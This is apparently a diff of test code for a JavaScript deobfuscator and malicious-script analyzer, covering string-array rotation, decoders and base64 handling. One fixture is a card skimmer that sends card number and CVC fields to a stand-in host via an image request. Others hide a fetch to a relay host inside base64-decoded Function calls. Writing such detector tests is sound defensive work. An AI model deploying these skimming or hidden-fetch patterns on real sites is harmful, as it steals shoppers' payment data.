@@ -37,11 +37,32 @@ describe('a string array turned a counted number of times', () => {
     expect(out).toContain(`src='https://c.example/i'`)
   })
 
-  it('stays unread when the turn is made more than once, or a decoder reads another place', () => {
-    const twice = `${ARRAY}(function(a,n){var r=function(c){while(--c){a.push(a.shift());}};r(++n);r(++n);}(t,0x1));${DECODER}${USE}`
-    expect(resolve(twice)).toBe(twice)
-    const shifted = `${ARRAY}(function(a,n){var r=function(c){while(--c){a.push(a.shift());}};r(++n);}(t,0x1));var d=function(i){i=i-0x0;var s=t[(i+1)%3];return s;};${USE}`
+  it('stays unread when the turn is not exactly the template', () => {
+    const turn = `var r=function(c){while(--c){a.push(a.shift());}};`
+    const iife = (body: string): string => `(function(a,n){${turn}${body}}(t,0x1));`
+    for (const body of [
+      'r(++n);r(++n);', // twice
+      'n+=1;r(++n);', // the count changed first
+      'for(var i=0;i<2;i++)r(++n);', // in a loop
+      'var g=function(){r(++n)};g();g();', // through a function called twice
+      'r(++n);a.reverse();', // the array changed otherwise
+      'if(0)r(++n);', // a call that may never run
+    ]) {
+      const source = `${ARRAY}${iife(body)}${DECODER}${USE}`
+      expect({ body, out: resolve(source) }).toEqual({ body, out: source })
+    }
+    const twoTurns = `${ARRAY}${iife('r(++n);')}${iife('r(++n);')}${DECODER}${USE}`
+    expect(resolve(twoTurns)).toBe(twoTurns)
+    const shifted = `${ARRAY}${iife('r(++n);')}var d=function(i){i=i-0x0;var s=t[(i+1)%3];return s;};${USE}`
     expect(resolve(shifted)).toBe(shifted)
+  })
+
+  it('made through a helper is read only when each function on the way runs once', () => {
+    const helper = (calls: string): string =>
+      `${ARRAY}(function(a,n){var r=function(c){while(--c){a.push(a.shift());}};var g=function(){var h=function(f,x){f(++x);};return h(r,n),'v';};${calls}}(t,0x4));${DECODER}${USE}`
+    expect(resolve(helper('g();'))).toContain(`src='https://c.example/i'`)
+    const twice = helper('g();g();')
+    expect(resolve(twice)).toBe(twice)
   })
 })
 
@@ -57,6 +78,15 @@ describe("2.x releases' decoder", () => {
     )
   })
 
+  it('is left to the evaluator when it calls itself otherwise, or does more first', () => {
+    const head = `function a(){var s=['x','y'];a=function(){return s;};return a();}`
+    const inner = `function(i,k){i=i-0x0;var v=t[i];return v;}`
+    for (const tail of [`d(x+1,y)`, `t.reverse(),d(x,y)`]) {
+      const source = `${head}function d(x,y){var t=a();return d=${inner},${tail};}f(d(0x1));`
+      expect(resolve(source)).toBe(source)
+    }
+  })
+
   it('is left to the evaluator when its inner function reads another array', () => {
     const source =
       `function a(){var s=['x','y'];a=function(){return s;};return a();}var o=['p','q'];` +
@@ -67,8 +97,10 @@ describe("2.x releases' decoder", () => {
 
 describe('the pieces older releases decode', () => {
   it('drop base64 padding before decoding', () => {
-    expect(obfuscatorBase64('Y2xpY2s=', STANDARD_ALPHABET)).toBe('click')
-    expect(obfuscatorBase64('aW1n', STANDARD_ALPHABET)).toBe('img')
+    expect(obfuscatorBase64('Y2xpY2s=', STANDARD_ALPHABET, true)).toBe('click')
+    expect(obfuscatorBase64('aW1n', STANDARD_ALPHABET, true)).toBe('img')
+    // current releases write none, and their decoder reads a `=` as data
+    expect(obfuscatorBase64('Y2xpY2s=', STANDARD_ALPHABET)).not.toBe('click')
   })
 
   it('keep a decoded member apart from the word after it', () => {
@@ -81,6 +113,13 @@ describe('the pieces older releases decode', () => {
 })
 
 describe('what obfuscated code leaves behind is no evidence', () => {
+  it("a field selector is evidence, whatever the table's value under it", () => {
+    const source = `var m={'input[name="payment[cc_number]"]':function(){},'input[name="payment[cc_cid]"]':function(){}};
+document.addEventListener('click',function(){var d={};for(var k in m){var e=document.querySelector(k);if(e)d[k]=e.value;}
+new Image().src='https://stats-cdn.example/c?d='+btoa(JSON.stringify(d));});`
+    expect(analyzeScript(source).verdict).toBe('malicious')
+  })
+
   it("a helper table's method named like a card field names no field", () => {
     const source = `var h={'ccMmu':function(a,b){return a===b},'qRtx':function(a,b){return a<b}};
 var el=document.querySelector('input[name="postcode"]');
@@ -101,6 +140,11 @@ fetch('https://api.lookup.example/v1',{method:'POST',body:JSON.stringify({postco
     // fetch('//relay.example/x') hidden the same way still runs a decoded string
     const hidden = analyzeScript(`Function(atob('ZmV0Y2goJy8vcmVsYXkuZXhhbXBsZS94Jyk='))();`)
     expect(hidden.findings.map((f) => f.rule)).toContain('dynamic-code-from-decoded')
+    // and so does an inert body behind parameters whose defaults run at the call
+    const params = analyzeScript(
+      `Function(atob('YT1mZXRjaCgnLy9yZWxheS5leGFtcGxlL3gnKQ=='),atob('cmV0dXJuIHRoaXM='))();`,
+    )
+    expect(params.findings.map((f) => f.rule)).toContain('dynamic-code-from-decoded')
   })
 })
 
@@ -111,9 +155,17 @@ describe('decoder arguments moved out into a table', () => {
     expect(out).toContain(`document.addEventListener('click',f)`)
   })
 
-  it('are not read from a table the file writes to', () => {
-    const source = `${head}var a={_0x1:0x1,_0x2:'0x0'};a._0x1=0x0;document[d(a._0x1)](d(a._0x2),f);`
-    expect(resolve(source)).toBe(source)
+  it('are not read from a table the file writes to, or uses otherwise', () => {
+    for (const write of [
+      'a._0x1=0x0;',
+      'var b=a;b._0x1=0x0;',
+      'a={_0x1:0x0,_0x2:0x1};',
+      '[a._0x1]=[0x0];',
+      'Object.assign(a,{_0x1:0x0});',
+    ]) {
+      const source = `${head}var a={_0x1:0x1,_0x2:'0x0'};${write}document[d(a._0x1)](d(a._0x2),f);`
+      expect({ write, out: resolve(source) }).toEqual({ write, out: source })
+    }
   })
 })
 
